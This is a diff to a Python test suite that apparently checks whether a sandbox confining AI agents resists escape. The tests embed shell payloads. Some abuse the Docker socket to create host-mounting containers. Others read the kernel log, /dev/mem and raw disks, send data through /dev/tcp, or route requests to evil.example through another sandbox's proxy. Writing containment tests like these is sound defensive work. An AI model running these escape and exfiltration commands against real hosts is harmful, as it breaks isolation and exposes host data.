@@ -608,24 +608,30 @@ for a in 127.0.0.1:2375 127.0.0.1:2376 localhost:2375; do curl -sS -m 5 -H 'Cont
         out = self.attack(as_root_script("""
 hostfs && echo mounted && echo @@M@@ > /tmp/hostfs@@DIR@@/@@M@@ && ls -la /tmp/hostfs@@DIR@@
 mountpoint -q /tmp/hostfs && umount /tmp/hostfs
-"""), M=m, DIR=host_dir)
+for s in /var/run/docker.sock /run/docker.sock; do
+  [ -S $s ] || continue
+  body='{"Image":"@@IMAGE@@","Entrypoint":["sh","-c","echo @@M@@ > /h/@@M@@"],"HostConfig":{"Binds":["@@DIR@@:/h"]},"Labels":{"bot-bottle.test":"escape"}}'
+  curl -sS -m 8 --unix-socket $s -H 'Content-Type: application/json' -d "$body" "http://localhost/containers/create?name=@@M@@"
+  curl -sS -m 8 --unix-socket $s -X POST "http://localhost/containers/@@M@@/start"; sleep 2
+done
+"""), M=m, DIR=host_dir, IMAGE=images.ensure_image(images.sidecar_image()))
+        self.addCleanup(lambda: engine.run(["rm", "-f", m], timeout=60, check=False))
         written = (host_dir / m).exists()
         self.assertStopped([f"the agent wrote {host_dir / m} on the host"] if written else [], out)
 
-    def test_reading_the_hosts_block_device(self) -> None:
-        uuid = _root_fs_uuid()
-        self.assertTrue(uuid, "could not read this host's root file system UUID (the oracle)")
-        out = self.attack(as_root_script("""
-for dev in $(awk 'NR>2 {print $4}' /proc/partitions 2>/dev/null) vda sda nvme0n1 xvda; do
-  for node in /dev/$dev /tmp/blk-$dev; do
-    [ -b $node ] || { mm=$(awk -v d=$dev '$4==d {print $1" "$2}' /proc/partitions); [ -n "$mm" ] && mknod /tmp/blk-$dev b $mm; }
-    [ -e $node ] && dd if=$node bs=1024 skip=1 count=1 2>/dev/null | od -An -tx1 | tr -d ' \\n' && echo " <- $node"
-  done
+    def test_reading_the_hosts_kernel_log_and_devices(self) -> None:
+        # The host writes a line only its own kernel log holds; the attack must not be able to read it.
+        secret_line = esc.marker("hostlog")
+        Path("/dev/kmsg").write_text(f"<6>{secret_line}\n")
+        out = self.attack("dmesg 2>&1 | tail -n 50; timeout 2 cat /dev/kmsg 2>&1 | tail -n 50\n" + as_root_script("""
+dmesg | tail -n 50; timeout 2 cat /dev/kmsg | tail -n 50
+for dev in $(awk 'NR>2 {print $4}' /proc/partitions 2>/dev/null) vda sda; do
+  [ -b /dev/$dev ] && dd if=/dev/$dev bs=512 count=1 2>&1 | od -An -c | head -2
 done
-ls -la /dev
+head -c 64 /dev/mem 2>&1 | od -An -tx1 | head -2; ls -la /dev
 """))
-        self.assertStopped(["the host disk's superblock UUID is in the attack's output"] if uuid in out.replace("\n", "") else [],
-                           out[-1000:])
+        self.assertStopped(["the host's kernel log line is in the attack's output"] if secret_line in out else [],
+                           out[-1500:])
 
     def test_writing_to_the_hosts_kernel_log(self) -> None:
         m = esc.marker("kmsg")
@@ -667,20 +673,6 @@ newgrp root </dev/null; chfn -f x node </dev/null
                           M=m, DIRS=" ".join(places))
         found = self.bottle.exec(" ".join(f"ls {p.rstrip('/')}/{m};" for p in places) + " true", user="root").stdout
         self.assertStopped([f"written: {line}" for line in found.split()], out)
-
-
-def _root_fs_uuid() -> str:
-    """Hex of the UUID in the superblock of the block device holding this host's ``/`` (ext4 offset 0x468)."""
-    for line in Path("/proc/self/mounts").read_text().splitlines():
-        dev, mount = line.split()[:2]
-        if mount == "/" and dev.startswith("/dev/"):
-            try:
-                with open(dev, "rb") as fh:
-                    fh.seek(1024 + 0x68)
-                    return fh.read(16).hex()
-            except OSError:
-                return ""
-    return ""
 
 
 @skip_unless_docker()
@@ -730,20 +722,26 @@ timeout 5 bash -c 'echo @@M@@ > /dev/tcp/@@IP@@/80'
         self.assertStopped(evidence, out)
 
     def test_memory_exhaustion_kills_only_the_bottle(self) -> None:
-        out = self.attack("head -c 1200M /dev/zero | tail > /dev/null; echo \"tail exit $?\"", timeout=120)
-        cid = engine.run(["inspect", "-f", "{{.Id}}", self.launcher.names.agent_container], timeout=30,
-                         check=False).stdout.strip()
+        cid = engine.run(["inspect", "-f", "{{.Id}}", self.launcher.names.agent_container], timeout=30).stdout.strip()
+        usage = Path("/sys/fs/cgroup/memory/docker") / cid / "memory.max_usage_in_bytes"
+        self.assertTrue(usage.is_file(), f"no cgroup file {usage} to read the bottle's memory from (the oracle)")
+        result: dict[str, str] = {}
+        worker = threading.Thread(target=lambda: result.update(out=self.attack(
+            "head -c 1200M /dev/zero | tail > /dev/null; echo \"tail exit $?\"", timeout=120)))
+        worker.start()
         peak = 0
-        for name in ("memory.max_usage_in_bytes", "memory.peak"):
-            for base in (Path("/sys/fs/cgroup/memory/docker") / cid, Path("/sys/fs/cgroup/system.slice") / f"docker-{cid}.scope"):
-                if (base / name).is_file():
-                    peak = max(peak, int((base / name).read_text().split()[0]))
-        self.assertGreater(peak, 0, "could not read the bottle's peak memory from its cgroup (the oracle)")
+        while worker.is_alive():
+            try:
+                peak = max(peak, int(usage.read_text().split()[0]))
+            except (OSError, ValueError):
+                pass  # the bottle died and its cgroup went with it: that is allowed
+            time.sleep(0.2)
+        worker.join()
         # The host and the engine are still here.
         self.assertTrue(engine.run(["info", "--format", "{{.ServerVersion}}"], timeout=30).stdout.strip())
         limit = 512 * 1024 * 1024
-        self.assertStopped([f"the bottle used {peak >> 20} MiB, over its {limit >> 20} MiB limit"] if peak > limit * 1.05 else [],
-                           out)
+        self.assertStopped([f"the bottle used {peak >> 20} MiB, over its {limit >> 20} MiB limit"]
+                           if peak > limit * 1.05 else [], result.get("out", ""))
 
 
 # =========================================================================== other bottles
@@ -767,7 +765,8 @@ class OtherBottles(_Family):
         sidecar_ips = engine.run(["inspect", "-f", "{{range .NetworkSettings.Networks}}{{.IPAddress}} {{end}}",
                                   launcher.names.sidecar_container], timeout=30).stdout.split()
         return {"VAGENT": launcher.names.agent_container, "VHOST": launcher.names.slug,
-                "VSIDE": launcher.names.sidecar_container, "VSIDE_IPS": " ".join(sidecar_ips)}
+                "VSIDE": launcher.names.sidecar_container, "VSIDE_IPS": " ".join(sidecar_ips),
+                "VVOL": launcher.names.socket_volume}
 
     def test_reaching_the_other_agent(self) -> None:
         before = self.arena.victim_hits()
@@ -794,7 +793,6 @@ fi
         self.assertStopped(evidence, out)
 
     def test_using_the_other_bottles_proxy(self) -> None:
-        before = self.counts()
         m = esc.marker("otherproxy")
         out = self.attack("""
 for t in @@VSIDE@@ @@VSIDE_IPS@@ sidecar; do
@@ -807,8 +805,20 @@ for s in $(find / -xdev -type s -name '*.sock' 2>/dev/null); do curl -sS -m 5 --
 if hostfs; then
   for s in /tmp/hostfs/var/lib/docker/volumes/*/_data/proxy.sock; do curl -sS -m 5 --unix-socket $s http://evil.example/@@M@@; done
 fi
-"""), M=m, **self.victim_names())
-        self.assertStopped(esc.hits_with(self.new_records("evil.example", before["evil.example"]), m), out)
+# Through the engine: a new container that mounts the other bottle's socket volume.
+for s in /var/run/docker.sock /run/docker.sock; do
+  [ -S $s ] || continue
+  body='{"Image":"@@AGENT_IMAGE@@","User":"root","Entrypoint":["curl","-sS","-m","5","--unix-socket","/v/proxy.sock","http://evil.example/@@M@@"],"HostConfig":{"Binds":["@@VVOL@@:/v"],"NetworkMode":"none"},"Labels":{"bot-bottle.test":"escape"}}'
+  curl -sS -m 8 --unix-socket $s -H 'Content-Type: application/json' -d "$body" "http://localhost/containers/create?name=@@M@@"
+  curl -sS -m 8 --unix-socket $s -X POST "http://localhost/containers/@@M@@/start"; sleep 3
+done
+"""), M=m, AGENT_IMAGE=self.launcher.plan.agent_image, **self.victim_names())
+        engine.run(["rm", "-f", m], timeout=60, check=False)
+        # The other bottle's own proxy log says whether it carried anything of ours.
+        log = engine.run(["exec", self.victim_names()["VSIDE"], "cat", "/var/log/bottle/egress.jsonl"],
+                         timeout=30, check=False).stdout
+        evidence = [f"the other bottle's proxy carried: {line[:200]}" for line in log.splitlines() if m in line]
+        self.assertStopped(evidence, out)
 
     def test_reading_the_other_bottles_state(self) -> None:
         canary = self.arena.victim_canary
